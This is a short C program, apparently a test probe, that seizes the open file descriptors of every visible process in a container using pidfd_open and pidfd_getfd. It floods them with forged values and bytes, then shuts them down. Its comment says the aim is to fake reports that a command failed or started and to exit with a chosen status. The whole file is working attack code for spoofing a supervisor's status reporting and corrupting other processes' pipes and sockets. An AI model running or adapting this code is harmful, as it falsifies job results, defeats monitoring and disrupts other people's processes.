/*
 * forge STATUS: take every descriptor of every visible process, as the container's
 * root may. Write to it and read from it everything that could report that a command
 * failed, or started. Then end with STATUS. Prints how many descriptors it could take.
 */
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/syscall.h>

#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void
forge(int fd)
{
	static const uint64_t numbers[] = { 1, 9 << 8, 0xfffffffffffffffe };
	char buf[8];
	size_t i;

	fcntl(fd, F_SETFL, O_NONBLOCK);
	for (i = 0; i < 3; i++)
		if (read(fd, buf, sizeof(buf)) == -1)
			break;
	for (i = 0; i < 3; i++)
		if (write(fd, &numbers[i], sizeof(numbers[i])) == -1)
			break;
	for (i = 1; i < 65; i++) {
		buf[0] = (char)i;
		send(fd, buf, 1, MSG_DONTWAIT | MSG_NOSIGNAL);
	}
	send(fd, "F", 1, MSG_DONTWAIT | MSG_NOSIGNAL);
	shutdown(fd, SHUT_RDWR);
}

int
main(int argc, char *argv[])
{
	int pid, fd, pidfd, taken, n = 0;

	signal(SIGPIPE, SIG_IGN);
	for (pid = 1; pid < 100; pid++) {
		if (pid == getpid() || (pidfd = (int)syscall(SYS_pidfd_open,
			pid, 0)) == -1)
			continue;
		for (fd = 3; fd < 64; fd++) {
			taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
			if (taken == -1)
				continue;
			n++;
			forge(taken);
		}
	}
	printf("%d\n", n);
	return argc > 1 ? atoi(argv[1]) : 0;
}
